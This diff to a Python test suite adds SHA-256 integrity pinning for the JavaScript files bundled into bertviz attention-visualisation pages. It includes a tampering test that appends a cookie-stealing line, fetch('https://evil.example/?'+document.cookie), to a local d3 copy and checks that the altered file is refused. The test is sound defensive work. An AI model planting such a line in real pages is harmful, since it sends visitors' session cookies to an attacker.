@@ -59,9 +59,20 @@ def test_bertviz_html_uses_cdn_and_explains_a_blank_view():
         av.bertviz_html(_attentions(), TOKENS, view="model", include_layers=[5])
 
 
-def test_bertviz_html_inline_uses_local_scripts(tmp_path):
-    for spec in av.BERTVIZ_ASSETS.values():
-        (tmp_path / spec["file"]).write_text(f"/* local {spec['file']} */")
+def _fake_assets(folder, monkeypatch):
+    """Write stand-in scripts into ``folder`` and pin their sha256 in place of the real ones (for this test only)."""
+    import hashlib
+
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, spec in av.BERTVIZ_ASSETS.items():
+        content = f"/* local {spec['file']} */".encode()
+        (folder / spec["file"]).write_bytes(content)
+        monkeypatch.setitem(spec, "sha256", hashlib.sha256(content).hexdigest())
+    return folder
+
+
+def test_bertviz_html_inline_uses_local_scripts(tmp_path, monkeypatch):
+    _fake_assets(tmp_path, monkeypatch)
     html = av.bertviz_html(_attentions(), TOKENS, view="model", inline=tmp_path)
     assert av.BERTVIZ_ASSETS["require"]["cdn"] not in html
     for spec in av.BERTVIZ_ASSETS.values():
@@ -77,3 +88,38 @@ def test_attention_is_rounded_to_keep_pages_small():
     html = av.bertviz_html(_attentions(), TOKENS, view="head")
     assert "0.1234567" not in html and len(html) < 60_000
     assert html.count('"attn"') == 1  # bertviz's template would otherwise put the data in twice
+
+
+def test_pinned_asset_hashes_are_the_npm_releases():
+    # sha256 of the files inside the npm tarballs requirejs-2.3.6, d3-5.7.0, jquery-2.2.4 (checked with `npm pack`)
+    assert {n: s["sha256"] for n, s in av.BERTVIZ_ASSETS.items()} == {
+        "require": "9485f0917f97fcf4f63a5ea365200ffd57f123f451382a2f9a1ad2e2fd51ac9b",
+        "d3": "bdad5585ef9a965ff25458738309b006058c55f2c78d794d25fbecae35014609",
+        "jquery": "05b85d96f41fff14d8f608dad03ab71e2c1017c2da0914d7c59291bad7a54f8e",
+    }
+
+
+def test_tampered_asset_is_refused_on_every_read(tmp_path, monkeypatch):
+    import shutil
+
+    good = _fake_assets(tmp_path / "good", monkeypatch)
+    copy = tmp_path / "copy"
+    shutil.copytree(good, copy)
+    monkeypatch.setenv(av.ASSETS_ENV, str(copy))
+    assert "/* local d3.min.js */" in av.bertviz_html(_attentions(), TOKENS, inline=True)  # intact: accepted
+    tampered = copy / av.BERTVIZ_ASSETS["d3"]["file"]
+    tampered.write_bytes(tampered.read_bytes() + b"\nfetch('https://evil.example/?'+document.cookie);")
+    with pytest.raises(av.AssetIntegrityError, match=r"d3\.min\.js .*sha256.*fetch_bertviz_assets") as err:
+        av.bertviz_html(_attentions(), TOKENS, inline=True)  # read again: checked again
+    assert av.BERTVIZ_ASSETS["d3"]["sha256"] in str(err.value)
+    with pytest.raises(av.AssetIntegrityError):
+        av.read_bertviz_asset("d3", tampered)
+    assert av.read_bertviz_asset("jquery", copy / "jquery.min.js") == "/* local jquery.min.js */"
+
+
+def test_real_assets_pass_the_check_when_present():
+    paths = av.find_bertviz_assets()
+    if paths is None:
+        pytest.skip("no local copies of the bertviz scripts (tests/.browser/js or $BERTVIZ_JS_DIR)")
+    for name, path in paths.items():
+        assert av.read_bertviz_asset(name, path)
